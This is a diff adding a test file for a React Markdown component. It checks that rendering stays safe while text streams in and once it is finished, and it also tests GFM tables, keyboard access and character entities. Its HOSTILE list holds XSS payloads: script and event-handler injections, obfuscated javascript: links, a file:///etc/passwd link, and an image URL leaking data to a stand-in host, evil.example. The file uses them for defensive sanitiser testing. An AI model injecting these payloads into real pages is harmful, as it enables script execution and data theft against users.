@@ -1,0 +1,103 @@
+import { cleanup, render } from "@testing-library/react";
+import { afterEach, expect, test } from "vitest";
+
+import { Markdown } from "./markdown";
+
+afterEach(cleanup);
+
+const shown = (text: string, streaming = false) =>
+  render(<Markdown text={text} streaming={streaming} />).container;
+
+const HOSTILE = [
+  "<script>window.pwned=1</script>",
+  "<img src=x onerror=window.pwned=1>",
+  "<svg/onload=window.pwned=1>",
+  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+  "<a href='javascript:window.pwned=1'>x</a>",
+  "<form action=/graphql><input name=q></form>",
+  "<style>*{display:none}</style>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+  "[x](javascript:window.pwned=1)",
+  "[x](JaVaScRiPt:window.pwned=1)",
+  "[x](java&#115;cript:window.pwned=1)",
+  "[x](&#x6A;avascript:window.pwned=1)",
+  "[x](  javascript:window.pwned=1)",
+  "[x](\u0001javascript:window.pwned=1)",
+  "[x](data:text/html,<script>window.pwned=1</script>)",
+  "[x](vbscript:msgbox)",
+  "[x](file:///etc/passwd)",
+  "[x](//evil.example/a)",
+  "[x](/\\evil.example/a)",
+  "[x](\\\\evil.example)",
+  "<javascript:window.pwned=1>",
+  "[x]: javascript:window.pwned=1\n\n[x]",
+  "![x](javascript:window.pwned=1)",
+  "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
+  "![x](https://evil.example/leak?d=secret)",
+  "[![x](https://evil.example/leak)](https://evil.example)",
+  '![x](https://evil.example/a"onerror="window.pwned=1)',
+  "```html\n<script>window.pwned=1</script>\n```",
+  "`<img src=x onerror=window.pwned=1>`",
+  "| <script>window.pwned=1</script> |\n|---|\n| <img src=x onerror=window.pwned=1> |",
+];
+
+const ALLOWED = new Set(
+  "div p h3 h4 h5 h6 ul ol li input strong em del code pre span a br hr blockquote table thead tbody tr th td figure figcaption button svg path rect circle".split(
+    " ",
+  ),
+);
+
+test.each(HOSTILE)("%s stays harmless", (text) => {
+  for (const streaming of [false, true]) {
+    const container = shown(text, streaming);
+    for (const element of container.querySelectorAll("*")) {
+      expect(ALLOWED).toContain(element.tagName.toLowerCase());
+      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src$|^srcdoc$|^action$/);
+    }
+    for (const link of container.querySelectorAll("a")) {
+      expect(link.href).toMatch(/^(https?:\/\/(localhost|evil\.example)|mailto:)/);
+      if (link.host !== window.location.host) expect(link.rel).toContain("noopener");
+      expect(link.getAttribute("href")).not.toMatch(/^[\\/]{2}|^\/\\/);
+    }
+    cleanup();
+  }
+  expect(Reflect.get(window, "pwned")).toBeUndefined();
+});
+
+test("raw HTML is shown as text", () => {
+  expect(shown("a <b>bold</b>\n\n<div>block</div>").textContent).toBe("a <b>bold</b><div>block</div>");
+});
+
+test("an image of another host waits for a click", () => {
+  const container = shown("![A chart](https://evil.example/leak)");
+  expect(container.querySelector("img")).toBeNull();
+  container.querySelector("button")?.dispatchEvent(new MouseEvent("click", { bubbles: true }));
+  expect(container.querySelector("button")?.textContent).toContain("A chart");
+});
+
+test("GFM: tables, tasks, nested lists, strikes, automatic links", () => {
+  const container = shown("| a | b |\n|:-:|--:|\n| 1 | ~~2~~ |\n\n1. x\n   - [x] y\n\nhttps://example.org");
+  expect(container.querySelector("th.text-center")?.textContent).toBe("a");
+  expect(container.querySelector("td del")?.textContent).toBe("2");
+  expect(container.querySelector<HTMLInputElement>("ol ul input")?.checked).toBe(true);
+  expect(container.querySelector("a")?.href).toBe("https://example.org/");
+});
+
+test("what scrolls sideways can be reached by keyboard", () => {
+  const container = shown("```js\nx\n```\n\n| a |\n|---|\n| 1 |");
+  expect(container.querySelector("pre")?.tabIndex).toBe(0);
+  expect(container.querySelector("table")?.parentElement?.tabIndex).toBe(0);
+});
+
+test("while a text grows its open marks look closed; the finished text is taken literally", () => {
+  expect(shown("so **bold", true).querySelector("strong")?.textContent).toBe("bold");
+  expect(shown("so **bold").querySelector("strong")).toBeNull();
+  expect(shown("call `f(", true).querySelector("code")?.textContent).toBe("f(");
+  expect(shown("see [the docs](https://exam", true).textContent).toBe("see the docs");
+});
+
+test("references and character entities", () => {
+  expect(shown("a &lt; b &amp;&amp; c &hellip; &unknown; &#x27;").textContent).toBe(
+    "a < b && c … &unknown; '",
+  );
+});
